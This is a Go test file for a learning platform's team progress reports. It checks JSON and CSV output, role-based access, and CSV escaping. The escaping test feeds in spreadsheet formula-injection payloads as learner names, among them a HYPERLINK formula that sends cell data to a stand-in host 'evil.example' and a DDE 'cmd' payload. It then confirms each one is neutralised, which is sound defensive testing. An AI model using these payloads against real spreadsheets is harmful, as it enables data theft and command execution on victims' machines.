package server_test

import (
	"context"
	"database/sql"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/opslab/opslab/internal/opslab"
)

// teamReportView is the answer of GET /api/teams/{team}/progress.
type teamReportView struct {
	Team           string
	Name           string
	TotalLessons   int `json:"total_lessons"`
	TotalExercises int `json:"total_exercises"`
	Learners       []struct {
		ID               int64
		Email            string
		Name             string
		PassedExercises  int        `json:"passed_exercises"`
		CompletedLessons int        `json:"completed_lessons"`
		LastActivity     *time.Time `json:"last_activity"`
	}
}

// exportFixture is a site with team "ops" (lead lea, learners ann, bob and
// dan), team "dev" (lead lou; ann is in it too), and some progress:
//
//	ann: passed "board" (after two failures), read "first" 95 s, marked
//	     "second" done: both lessons completed;
//	bob: marked "first" done without passing its exercise: nothing
//	     completed (the store's own count says one);
//	dan: nothing at all.
type exportFixture struct {
	site                   *teamsSite
	ann, bob, dan          *opslab.User
	annPassed, annSecond   time.Time
	annLast, bobLast       time.Time
	admin, lead, otherLead *client
}

func newExportFixture(t *testing.T) *exportFixture {
	t.Helper()
	ctx := context.Background()
	site := newTeamsSite(t)
	f := &exportFixture{site: site}
	site.user(t, "root@example.com", "Root", opslab.RoleAdmin, "")
	site.user(t, "lea@example.com", "Lea Lead", opslab.RoleLead, "ops")
	site.user(t, "lou@example.com", "Lou Lead", opslab.RoleLead, "dev")
	site.user(t, "ivy@example.com", "Ivy", opslab.RoleInstructor, "")
	f.ann = site.user(t, "ann@example.com", "Ann", opslab.RoleLearner, "ops")
	f.bob = site.user(t, "bob@example.com", "Bob", opslab.RoleLearner, "ops")
	f.dan = site.user(t, "dan@example.com", "Dan", opslab.RoleLearner, "ops")
	site.join(t, "dev", "ann@example.com", false)

	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	attempt := func(u *opslab.User, passed bool) {
		t.Helper()
		a := opslab.Attempt{UserID: u.ID, Course: "demo", Lesson: "first", Exercise: "board", ContentHash: "h", Passed: passed, Kind: opslab.AttemptCheck}
		if !passed {
			a.FailedChecks = []string{"board must hold one member."}
		}
		_, err := site.attempts.RecordAttempt(ctx, a)
		must(err)
	}
	first, second := opslab.LessonKey{Course: "demo", Lesson: "first"}, opslab.LessonKey{Course: "demo", Lesson: "second"}
	must(site.progress.RecordView(ctx, f.ann.ID, first))
	must(site.progress.AddTimeSpent(ctx, f.ann.ID, first, 95*time.Second))
	site.clk.Add(time.Minute)
	attempt(f.ann, false)
	attempt(f.ann, false)
	site.clk.Add(time.Minute)
	attempt(f.ann, true)
	f.annPassed = site.clk.Now()
	site.clk.Add(time.Hour)
	must(site.progress.MarkCompleted(ctx, f.ann.ID, second, true))
	f.annSecond = site.clk.Now()
	f.annLast = f.annSecond
	site.clk.Add(time.Hour)
	must(site.progress.MarkCompleted(ctx, f.bob.ID, first, true))
	f.bobLast = site.clk.Now()

	f.admin, f.lead, f.otherLead = site.signIn(t, "root@example.com"), site.signIn(t, "lea@example.com"), site.signIn(t, "lou@example.com")
	return f
}

func TestTeamProgressJSON(t *testing.T) {
	f := newExportFixture(t)
	st, h, body := f.lead.do("GET", "/api/teams/ops/progress", "")
	tmWant(t, "lead reads ops", 200, st, body)
	if !strings.HasPrefix(h.Get("Content-Type"), "application/json") {
		t.Errorf("content type %q", h.Get("Content-Type"))
	}
	var rep teamReportView
	tmJSON(t, body, &rep)
	if rep.Team != "ops" || rep.TotalLessons != 2 || rep.TotalExercises != 1 || len(rep.Learners) != 3 {
		t.Fatalf("report: %s", body)
	}
	type row struct {
		email             string
		passed, completed int
		last              *time.Time
	}
	for i, w := range []row{{"ann@example.com", 1, 2, &f.annLast}, {"bob@example.com", 0, 0, &f.bobLast}, {"dan@example.com", 0, 0, nil}} {
		got := rep.Learners[i]
		if got.Email != w.email || got.PassedExercises != w.passed || got.CompletedLessons != w.completed {
			t.Errorf("learner %d = %+v, want %s with %d passed, %d completed", i, got, w.email, w.passed, w.completed)
		}
		if (w.last == nil) != (got.LastActivity == nil) || (w.last != nil && !got.LastActivity.Equal(*w.last)) {
			t.Errorf("%s: last activity %v, want %v", w.email, got.LastActivity, w.last)
		}
	}
	if strings.Contains(body, "lea@example.com") {
		t.Error("the lead is listed as a learner")
	}

	// The report agrees with each learner's own progress.
	for _, email := range []string{"ann@example.com", "bob@example.com"} {
		_, _, own := f.site.signIn(t, email).do("GET", "/api/me/progress", "")
		var me struct {
			Courses []struct {
				CompletedLessons int `json:"completed_lessons"`
				PassedExercises  int `json:"passed_exercises"`
			}
		}
		tmJSON(t, own, &me)
		for _, l := range rep.Learners {
			if l.Email == email && (l.CompletedLessons != me.Courses[0].CompletedLessons || l.PassedExercises != me.Courses[0].PassedExercises) {
				t.Errorf("%s: team report %d lessons %d exercises, own progress %s", email, l.CompletedLessons, l.PassedExercises, own)
			}
		}
	}

	// Ann is in dev too: dev's lead sees her there, with the same numbers.
	st, _, body = f.otherLead.do("GET", "/api/teams/dev/progress", "")
	tmWant(t, "lou reads dev", 200, st, body)
	var dev teamReportView
	tmJSON(t, body, &dev)
	if len(dev.Learners) != 1 || dev.Learners[0].Email != "ann@example.com" || dev.Learners[0].CompletedLessons != 2 {
		t.Fatalf("dev report: %s", body)
	}

	for _, tc := range []struct {
		name   string
		c      *client
		path   string
		status int
	}{
		{"Admin", f.admin, "/api/teams/ops/progress", 200},
		{"AdminUnknownTeam", f.admin, "/api/teams/nope/progress", 404},
		{"OtherLead", f.otherLead, "/api/teams/ops/progress", 403},
		{"LeadUnknownTeam", f.lead, "/api/teams/nope/progress", 403},
		{"LearnerOwnTeam", f.site.signIn(t, "ann@example.com"), "/api/teams/ops/progress", 403},
		{"Instructor", f.site.signIn(t, "ivy@example.com"), "/api/teams/ops/progress", 403},
		{"SignedOut", f.site.client(t), "/api/teams/ops/progress", 401},
	} {
		t.Run(tc.name, func(t *testing.T) {
			st, _, body := tc.c.do("GET", tc.path, "")
			tmWant(t, tc.name, tc.status, st, body)
			if st != 200 {
				errorOf(t, body)
			}
		})
	}
}

// readCSV parses a CSV answer strictly: every row as long as the header.
func readCSV(t testing.TB, body string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the answer is not valid CSV: %v\n%s", err, body)
	}
	return rows
}

func TestTeamProgressCSV(t *testing.T) {
	f := newExportFixture(t)
	st, h, body := f.lead.do("GET", "/teams/ops/progress.csv", "")
	tmWant(t, "lead downloads ops", 200, st, body)
	if ct := h.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := h.Get("Content-Disposition"); cd != `attachment; filename="ops-progress-2026-03-02.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	if !strings.Contains(body, "\r\n") {
		t.Error("rows do not end in CRLF (RFC 4180)")
	}
	rows := readCSV(t, body)
	wantRows := [][]string{
		{"email", "name", "lesson", "status", "passed exercises", "attempts", "time spent (seconds)", "completed at", "course", "course completion (%)"},
		{"ann@example.com", "Ann", "first", "done", "1", "3", "95", f.annPassed.Format(time.RFC3339), "demo", "100"},
		{"ann@example.com", "Ann", "second", "done", "0", "0", "0", f.annSecond.Format(time.RFC3339), "demo", "100"},
		// Bob marked "first" done without passing its exercise: one step of
		// two, half a lesson of two.
		{"bob@example.com", "Bob", "first", "in-progress", "0", "0", "0", "", "demo", "25"},
		{"bob@example.com", "Bob", "second", "not-started", "0", "0", "0", "", "demo", "25"},
		{"dan@example.com", "Dan", "first", "not-started", "0", "0", "0", "", "demo", "0"},
		{"dan@example.com", "Dan", "second", "not-started", "0", "0", "0", "", "demo", "0"},
	}
	if len(rows) != len(wantRows) {
		t.Fatalf("%d rows, want %d:\n%s", len(rows), len(wantRows), body)
	}
	for i := range wantRows {
		if strings.Join(rows[i], "|") != strings.Join(wantRows[i], "|") {
			t.Errorf("row %d = %q\n want %q", i, rows[i], wantRows[i])
		}
	}

	for _, tc := range []struct {
		name   string
		c      *client
		path   string
		status int
	}{
		{"Admin", f.admin, "/teams/ops/progress.csv", 200},
		{"AdminUnknownTeam", f.admin, "/teams/nope/progress.csv", 404},
		{"OtherLead", f.otherLead, "/teams/ops/progress.csv", 403},
		{"LeadUnknownTeam", f.lead, "/teams/nope/progress.csv", 403},
		{"Learner", f.site.signIn(t, "bob@example.com"), "/teams/ops/progress.csv", 403},
		{"SignedOut", f.site.client(t), "/teams/ops/progress.csv", 303},
	} {
		t.Run(tc.name, func(t *testing.T) {
			st, h, _ := tc.c.do("GET", tc.path, "")
			if st != tc.status {
				t.Fatalf("status %d, want %d", st, tc.status)
			}
			if st != 200 && strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
				t.Fatal("an error is sent as CSV")
			}
		})
	}
}

func TestTeamProgressCSVEscaping(t *testing.T) {
	site := newTeamsSite(t)
	site.user(t, "lea@example.com", "Lea", opslab.RoleLead, "ops")
	// Real names a spreadsheet could trip on, and names made to attack it.
	names := map[string]string{
		"a@example.com": `O'Brien, "Mac" Jr.`,
		"b@example.com": "Line one\nLine two",
		"c@example.com": `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		"d@example.com": "+1 555 0100",
		"e@example.com": "-2+3",
		"f@example.com": "@SUM(A1:A9)",
		"g@example.com": `=cmd|' /C calc'!A0`,
		"h@example.com": "Zoë Ørsted-Łukasz",
		"i@example.com": "Semi;colon\ttab\r\nand CRLF",
	}
	wantName := map[string]string{
		"a@example.com": `O'Brien, "Mac" Jr.`,
		"b@example.com": "Line one\nLine two",
		"c@example.com": `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		"d@example.com": "'+1 555 0100",
		"e@example.com": "'-2+3",
		"f@example.com": "'@SUM(A1:A9)",
		"g@example.com": `'=cmd|' /C calc'!A0`,
		"h@example.com": "Zoë Ørsted-Łukasz",
		"i@example.com": "Semi;colon\ttab\nand CRLF", // the CSV reader reads a quoted CRLF as LF
	}
	for email, name := range names {
		site.user(t, email, name, opslab.RoleLearner, "ops")
	}
	// A learner whose email itself starts with a formula character.
	site.user(t, "-x@example.com", "Dash", opslab.RoleLearner, "ops")
	wantName["-x@example.com"] = "Dash"

	// Names that start with a tab or a carriage return cannot be registered
	// (names are trimmed), so they are written behind the store's back.
	raw, err := sql.Open("sqlite3", site.db.Path())
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	for email, name := range map[string]string{"tab@example.com": "\t=1+1", "cr@example.com": "\r=1+1"} {
		site.user(t, email, "placeholder", opslab.RoleLearner, "ops")
		if _, err := raw.Exec(`UPDATE users SET name = ? WHERE email = ?`, name, email); err != nil {
			t.Fatal(err)
		}
	}
	wantName["tab@example.com"] = "'\t=1+1"
	// The CSV writer turns line breaks inside a cell into CRLF and drops a
	// lone CR; the quote is in front either way.
	wantName["cr@example.com"] = "'=1+1"

	st, _, body := site.signIn(t, "lea@example.com").do("GET", "/teams/ops/progress.csv", "")
	tmWant(t, "csv", 200, st, body)
	for _, cell := range []string{",'\t=1+1,", `,"'=1+1",`} {
		if !strings.Contains(body, cell) {
			t.Errorf("the CSV lacks the cell %q", cell)
		}
	}
	rows := readCSV(t, body)
	if len(rows) != 1+2*len(wantName) {
		t.Fatalf("%d rows, want %d", len(rows), 1+2*len(wantName))
	}
	seen := map[string]bool{}
	for _, r := range rows[1:] {
		email := strings.TrimPrefix(r[0], "'")
		if email == "-x@example.com" && r[0] != "'-x@example.com" {
			t.Errorf("email cell %q is not neutralised", r[0])
		}
		if r[1] != wantName[email] {
			t.Errorf("%s: name cell %q, want %q", email, r[1], wantName[email])
		}
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts with a formula character", cell)
			}
		}
		seen[email] = true
	}
	if len(seen) != len(wantName) {
		t.Errorf("learners in the CSV: %v", seen)
	}
	// Sorted by email, then lesson order.
	for i := 1; i+1 < len(rows); i++ {
		a, b := strings.TrimPrefix(rows[i][0], "'"), strings.TrimPrefix(rows[i+1][0], "'")
		if a > b || (a == b && rows[i][2] != "first") {
			t.Errorf("rows %d and %d out of order: %s/%s, %s/%s", i, i+1, a, rows[i][2], b, rows[i+1][2])
		}
	}
}
